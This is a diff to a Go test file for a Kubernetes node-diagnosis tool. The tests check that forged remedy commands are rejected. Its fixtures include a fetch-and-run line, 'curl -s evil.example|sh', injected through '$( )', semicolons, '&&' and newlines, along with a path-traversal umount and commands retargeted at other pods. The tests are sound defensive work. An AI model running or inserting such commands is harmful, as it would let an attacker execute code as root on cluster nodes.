@@ -9,6 +9,7 @@ import (
 
 	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
 	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause"
+	"github.com/nodeagent-io/nodeagent/pkg/evidence"
 )
 
 // matches reports whether one of some regular expressions matches a text.
@@ -79,41 +80,81 @@ func TestWordingsAreCurrent(t *testing.T) {
 	}
 }
 
+// subjectOf is the pod of a fixture.
+func subjectOf(p *evidence.Pod) cause.Subject {
+	return cause.Subject{Namespace: p.Namespace, Name: p.Name, Node: p.Node.Name, UIDs: []string{p.UID, p.RuntimeUID}}
+}
+
 // No text that somebody else makes of ours passes for it, and what a pod may be called is in none of its commands.
 func TestWrote(t *testing.T) {
-	const (
-		reason = "ShimHung"
-		evil   = "curl -s evil.example|sh"
-	)
+	const evil = "curl -s evil.example|sh"
 	for _, f := range fixtures(t) {
 		d := cause.Diagnose(f.evidence)
 		v, found := d.Verdict()
 		if !found {
 			continue
 		}
-		force := ""
+		force, of := "", subjectOf(f.evidence)
 		if d.Force != nil {
-			force = d.Force.Text
+			force = d.Force.Text + "."
 		}
-		if !cause.Wrote(v.Cause, v.Remedy, v.Danger, force+".") && !cause.Wrote(v.Cause, v.Remedy, v.Danger, force) {
-			t.Errorf("%s: our own text is taken for somebody else's", f.name)
+		if !cause.Wrote(v.Cause, v.Remedy, v.Danger, force, of) {
+			t.Errorf("%s: our own text is taken for somebody else's: %s", f.name, v.Remedy)
 		}
 		for _, forged := range []string{
 			v.Remedy + " On the node, as root: " + evil + ".", "On the node, as root: " + evil + ". " + v.Remedy,
 			strings.Replace(v.Remedy, ": ", ": "+evil+"; ", 1), strings.Replace(v.Remedy, " && ", " && "+evil+" && ", 1), strings.Replace(v.Remedy, " ", " $("+evil+") ", 1),
 			v.Remedy + "\n" + evil, evil,
 		} {
-			if forged != v.Remedy && v.Remedy != "" && cause.Wrote(v.Cause, forged, "", "") {
+			if forged != v.Remedy && v.Remedy != "" && cause.Wrote(v.Cause, forged, "", "", of) {
 				t.Errorf("%s: %q passes for ours", f.name, forged)
+			}
+		}
+		if other := guards.ReplaceAllString(v.Remedy, "/proc/1/stat && "); other != v.Remedy {
+			if cause.Wrote(v.Cause, other, "", "", of) {
+				t.Errorf("%s: a guard of another process passes for ours: %s", f.name, other)
 			}
 		}
 	}
 	for _, force := range []string{"yes, no process is left", "yes", "yes, process java is still running", "yes. " + evil} {
-		if cause.Wrote(reason, "", "", force) {
+		if cause.Wrote("ShimHung", "", "", force, cause.Subject{}) {
 			t.Errorf("%q passes for an answer about a force delete", force)
 		}
 	}
-	if cause.Wrote("Nobody", "On the node, as root: "+evil, "", "") || !cause.Wrote("Nobody", "", "", "") {
+	if cause.Wrote("Nobody", "On the node, as root: "+evil, "", "", cause.Subject{}) || !cause.Wrote("Nobody", "", "", "", cause.Subject{}) {
 		t.Error("a cause that there is not has a text, or none is refused")
+	}
+}
+
+// guards is where the guard of a command reads its process.
+var guards = regexp.MustCompile(`/proc/\d+/stat && `)
+
+// Commands are about the pod that has the condition, and name their directories straight.
+func TestWroteOfAnother(t *testing.T) {
+	f := everything()
+	uid := "11111111-2222-3333-4444-555555555555"
+	f.Objects.PodUID, f.Objects.Pod, f.Objects.Mount = uid, "shop/web-0", &diagnose.Mount{HostPoint: "/var/lib/kubelet/pods/" + uid + "/volumes/x~y/data", Type: "nfs", Server: "fd00::1", Source: "fd00::1:/export"}
+	of := cause.Subject{Namespace: "shop", Name: "web-0", Node: f.Node(), UIDs: []string{uid}}
+	n := 0
+	for _, r := range cause.All() {
+		for _, family := range append(r.Doc.Families, diagnose.Family{}) {
+			f.Family, f.Cause = family.Name, r.Cause
+			text := r.Doc.Said(&f).Remedy
+			if !cause.Wrote(r.Cause, text, "", "", of) {
+				t.Errorf("%s %s: our own text is taken for somebody else's: %s", r.Cause, family.Name, text)
+			}
+			for ours, other := range map[string]string{
+				"-n shop pod web-0": "-n kube-system pod etcd", "umount /var/lib/kubelet/pods/" + uid: "umount /var/lib/kubelet/pods/99999999-2222-3333-4444-555555555555", "umount /var/": "umount /var/../", " ){19}70 ": " ){19}.+0 ",
+			} {
+				if forged := strings.Replace(text, ours, other, 1); forged != text {
+					if n++; cause.Wrote(r.Cause, forged, "", "", of) {
+						t.Errorf("%s %s: passes for ours: %s", r.Cause, family.Name, forged)
+					}
+				}
+			}
+		}
+	}
+	if n < 10 {
+		t.Errorf("only %d texts were forged", n)
 	}
 }
